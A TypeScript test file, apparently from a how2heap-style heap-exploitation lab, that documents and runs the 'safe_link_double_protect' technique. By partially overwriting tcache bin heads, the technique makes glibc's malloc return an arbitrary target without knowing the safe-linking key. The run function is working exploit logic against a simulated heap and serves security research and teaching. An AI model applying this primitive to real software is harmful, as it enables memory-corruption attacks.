/**
 * safe_link_double_protect: a leakless bypass of safe-linking for an attacker who can
 * partially overwrite tcache_perthread_struct's entries (the low bytes only). Point the 0x40
 * bin's head at a chunk whose first word is the target: tcache_get "reveals" it, storing
 * target ^ (page >> 12) as the new head, i.e. the target protected with the key of the
 * struct's own page. Then point the 0x20 bin's head at that 0x40 head slot: taking it reveals
 * the slot once more, which cancels the protection, and the next 0x20 malloc returns the
 * plain target. Needs no knowledge of the key (2.32+: there is nothing to bypass before).
 */

import assert from "node:assert/strict";
import { type Lab, on, SAFE_LINKING_VERSIONS, technique, versionsWhere } from "./support.ts";

technique({
  name: "safe_link_double_protect",
  claim: "malloc returns a target without knowing the safe-linking key",
  arches: ["x86_64"], // how2heap's slot offsets: on i386 the 0x40 slot is not 16-aligned
  outcomes: {
    ...on(SAFE_LINKING_VERSIONS, "works"),
    // 2.42+: 76 bins of 2-byte counters put the entries 8 bytes off a 16-byte boundary, so the
    // 0x40 head slot, taken as a chunk, is misaligned.
    ...on(versionsWhere((p) => p.tcacheLargeBins > 0), {
      aborts: "malloc(): unaligned tcache chunk detected",
      in: "malloc",
    }),
  },
  run(lab: Lab) {
    const h = lab.heap, sz = lab.sz, mem = lab.proc.memory;
    const goal = lab.stackTarget();
    const a = h.malloc(0x38), b = h.malloc(0x38);
    const c = h.malloc(0x18), d = h.malloc(0x18);
    const value = h.malloc(0x28);
    lab.write(value, goal);
    h.free(a);
    h.free(b);
    h.free(c);
    h.free(d);
    // The tcache struct is in the page of `value` (the heap's first chunk up to 2.41; from 2.43
    // it is made at the first free, from the top). Its entries follow the bins' counters.
    const tcache = lab.heap.context.tls().tcache;
    assert.equal(Math.floor(tcache / 4096), Math.floor(value / 4096));
    const entries = tcache + lab.profile.tcacheMaxBins * lab.profile.tcacheCountBytes;
    const slot = (request: number) =>
      entries + ((lab.chunkSize(request) - lab.profile.minSize) / lab.profile.mallocAlignment) * sz;
    const low32 = (x: number) => x % 2 ** 32;
    lab.vulnerability();
    mem.write32(slot(0x38), low32(value)); // 0x40 bin's head: value
    h.malloc(0x38); // head = REVEAL(value->next): goal, protected with the page's key
    mem.write32(slot(0x18), low32(slot(0x38))); // 0x20 bin's head: the 0x40 head slot
    assert.equal(h.malloc(0x18), slot(0x38)); // head = REVEAL(REVEAL(goal)) = goal
    assert.equal(h.malloc(0x18), goal);
  },
});
